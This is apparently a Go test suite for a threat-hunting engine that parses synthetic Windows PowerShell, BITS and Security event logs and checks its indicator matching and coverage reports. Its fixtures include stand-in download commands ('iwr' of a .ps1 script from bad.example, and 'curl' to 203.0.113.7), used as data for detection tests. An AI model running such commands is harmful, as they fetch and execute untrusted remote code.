package engine

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
)

// partOf is PowerShell's event of a part of a script block.
func partOf(block string, number, total int, text string) made {
	return made{"EventID": 4104, "Provider": "Microsoft-Windows-PowerShell", "Guid": "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}",
		"Channel": "Microsoft-Windows-PowerShell/Operational", "EventData": made{"MessageNumber": fmt.Sprint(number), "MessageTotal": fmt.Sprint(total),
			"ScriptBlockText": text, "ScriptBlockId": block, "Path": `C:\a.ps1`}}
}

// block is the n-th id of a script block. All begin with the same digits.
func block(n int) string { return fmt.Sprintf("ab35%04x-4aa4-4047-9ecb-9b285c4fa71b", n) }

// ofBits is an event of BITS.
func ofBits(id int, data made) made {
	return made{"EventID": id, "Provider": "Microsoft-Windows-Bits-Client", "Guid": "{EF1CC15B-46C1-414E-BB95-E76B077BD51E}",
		"Channel": "Microsoft-Windows-Bits-Client/Operational", "EventData": data}
}

// aJob is BITS' event of a new job, a download one of what a job brings.
func aJob(n int, owner string) made {
	return ofBits(3, made{"jobTitle": "same", "jobId": "{" + guid(n) + "}", "jobOwner": owner, "processPath": `C:\j.exe`, "processId": "77"})
}

func aDownload(n int) made {
	return ofBits(59, made{"transferId": "{" + guid(99) + "}", "name": "same", "Id": "{" + guid(n) + "}", "url": "http://203.0.113.7:443/x"})
}

func (s *EngineSuite) scriptFeed() string {
	return s.normalize(s.writeExport([][2]string{{"url", "http://bad.example/a/b.ps1"}}))
}

// found is what a column of both hunts' hits has, in order.
func (s *EngineSuite) found(got collection, column string) (values []string) {
	for _, hit := range s.hits(got) {
		values = append(values, fmt.Sprint(hit[column]))
	}
	return values
}

func (s *EngineSuite) TestOfManyUnfinishedScriptsEachPartIsReadBehindItsOwn() {
	const count = 300
	var events []made
	for n := range count {
		events = append(events, partOf(block(n), 1, 2, "x\niwr 'http://bad.exa"))
	}
	for n := range count {
		events = append(events, partOf(block(n), 2, 2, "mple/a/b.ps1' end"))
	}
	got := s.huntBoth(s.scriptFeed(), s.makeLog("make_evtx.py", s.writeEvents(events...)), nil)
	s.Len(s.hits(got), count)
}

func (s *EngineSuite) TestPartsOfAScriptOnTwoComputersAreNotJoined() {
	for _, layout := range layouts {
		got := s.huntBoth(s.scriptFeed(), s.makeLog(layout, s.writeEvents(
			partOf(block(1), 1, 2, "iwr 'http://bad.exa").on("A"), partOf(block(1), 2, 2, "mple/a/b.ps1' end").on("B"),
			partOf(block(2), 1, 2, "iwr 'http://bad.exa").on("A"), partOf(block(2), 1, 2, "x").on("B"), partOf(block(2), 2, 2, "mple/a/b.ps1' end").on("A"),
		)), nil)
		s.Equal([]string{"5"}, s.found(got, "RecordID"), layout)
	}
}

func (s *EngineSuite) TestAScriptThatGoesOnInTheNextLogIsJoined() {
	folder := s.tempDir()
	for name, event := range map[string]made{"a.evtx": partOf(block(1), 1, 2, "iwr 'http://bad.exa"), "b.evtx": partOf(block(1), 2, 2, "mple/a/b.ps1' end")} {
		s.Require().NoError(os.Rename(s.makeLog("make_evtx.py", s.writeEvents(event)), filepath.Join(folder, name)))
	}
	got := s.huntBoth(s.scriptFeed(), folder+"/*.evtx", nil)
	s.Equal([]string{filepath.Join(folder, "b.evtx")}, s.found(got, "LogFile"))
}

func (s *EngineSuite) TestAURLIsReadBehindAnyNumberOfLetters() {
	var events []made
	counts := []int{0, 59, 60, 61, 100, 4075, 9000}
	for _, count := range counts {
		events = append(events, audited(4096, `C:\a.exe`, "x "+strings.Repeat("y", count)+"http://bad.example/p"))
	}
	feed := s.normalize(s.writeExport([][2]string{{"domain", "bad.example"}}))
	s.Len(s.hits(s.huntBoth(feed, s.makeLog("make_evtx.py", s.writeEvents(events...)), nil)), len(counts))
}

// VQL cannot know it: parse_evtx passes over what it cannot read.
func (s *EngineSuite) TestTheNativeHuntSaysWhatOfALogIsDamaged() {
	log, err := os.ReadFile(s.edgeLog())
	s.Require().NoError(err)
	damaged := filepath.Join(s.tempDir(), "damaged.evtx")
	s.Require().NoError(os.WriteFile(damaged, append(log, "no chunk"...), 0o600))
	got := s.native(s.helper(), s.edgeFeed(), damaged, nil)
	s.Contains(got.source["Coverage"], `"searched, but 1 chunks and 0 records are damaged"`)
	s.Contains(got.logs, "damaged.evtx: 1 chunks and 0 records are damaged. What could be read of it was searched.")
	s.NotContains(s.native(s.helper(), s.edgeFeed(), s.edgeLog(), nil).source["Coverage"], "damaged")
}

func (s *EngineSuite) TestADownloadOfAnUnknownJobIsNotThatOfALaterOne() {
	log := s.makeLog("make_evtx.py", s.writeEvents(aDownload(1), aJob(2, `A\late`), ofBits(3, made{"string": "same", "string2": `A\later`}), aDownload(3)))
	for range 3 {
		s.Equal([]string{"<nil>", `A\later`}, s.found(s.huntBoth(s.c2Feed(), log, nil), "User"))
	}
}

func (s *EngineSuite) TestADownloadIsThatOfAJobThatBeganBeforeTheDates() {
	for _, layout := range layouts {
		log := s.makeLog(layout, s.writeEvents(aJob(1, `A\bob`).at(0), aDownload(1).at(21)))
		got := s.huntBoth(s.c2Feed(), log, map[string]string{"DateAfter": "2026-11-18T08:00:10Z"})
		s.Equal([]string{`A\bob`}, s.found(got, "User"), layout)
		s.Contains(got.source["Coverage"], `"EventsById":{"59":1}`, layout)
	}
}

// Of services, tasks and runas.
func (s *EngineSuite) TestAProcessThatIsStartedForAnotherAccountIsThatAccounts() {
	forOne := func(domain, name any) made {
		event := audited(4096, `C:\a.exe`, "curl http://203.0.113.7:443/")
		event["EventData"].(made)["TargetDomainName"], event["EventData"].(made)["TargetUserName"] = domain, name
		return event
	}
	for _, layout := range layouts {
		log := s.makeLog(layout, s.writeEvents(forOne("CORP", "svc"), forOne("-", "-"), forOne("", ""), audited(4096, `C:\a.exe`, "curl http://203.0.113.7:443/")))
		s.Equal([]string{`CORP\svc`, `A\bob`, `A\bob`, `A\bob`}, s.found(s.huntBoth(s.c2Feed(), log, nil), "User"), layout)
	}
}

// Forwarded logs have their events as they arrive.
func (s *EngineSuite) TestCoverageHasTheLeastAndTheGreatestTimeOfEachProvider() {
	for _, layout := range layouts {
		log := s.makeLog(layout, s.writeEvents(connected(guid(1), 1, `C:\a.exe`).at(20), connected(guid(1), 1, `C:\a.exe`).at(10),
			connected(guid(1), 1, `C:\a.exe`).at(40), connected(guid(1), 1, `C:\a.exe`).at(30), filtered(1, `\a.exe`).at(5), filtered(1, `\a.exe`).at(3)))
		vql, native := s.hunt(s.c2Feed(), log, nil), s.native(s.helper(), s.c2Feed(), log, nil)
		s.Equal(s.coverage(vql), s.coverage(native), layout)
		for name, got := range map[string]collection{"VQL": vql, "Native": native} {
			spans := map[string]string{}
			for _, row := range s.rowsOf(got.source["Coverage"]) {
				spans[row["Place"]] = row["Earliest"][14:19] + " " + row["Latest"][14:19]
			}
			s.Equal("00:10 00:40", spans["Microsoft-Windows-Sysmon"], layout+name)
			s.Equal("00:03 00:05", spans["Microsoft-Windows-Security-Auditing"], layout+name)
		}
	}
}

// So Windows logs processes unless it is told otherwise.
func (s *EngineSuite) TestCoverageSaysWhereProcessesAreLoggedWithoutTheirCommandLines() {
	said := func(layout string, lines ...string) string {
		var events []made
		for _, line := range lines {
			events = append(events, audited(4096, `C:\a.exe`, line))
		}
		log := s.makeLog(layout, s.writeEvents(append(events, filtered(4096, `\a.exe`))...))
		vql, native := s.hunt(s.c2Feed(), log, nil), s.native(s.helper(), s.c2Feed(), log, nil)
		s.Equal(s.coverage(vql), s.coverage(native), layout)
		return s.rowsOf(vql.source["Coverage"])[0]["Status"]
	}
	for _, layout := range layouts {
		s.Regexp(`^searched, but Security does not log command lines \(event 4688\); .*ProcessCreationIncludeCmdLine_Enabled`, said(layout, "", ""), layout)
		s.Equal("searched", said(layout, "", "cmd /c x", ""), layout)
	}
}
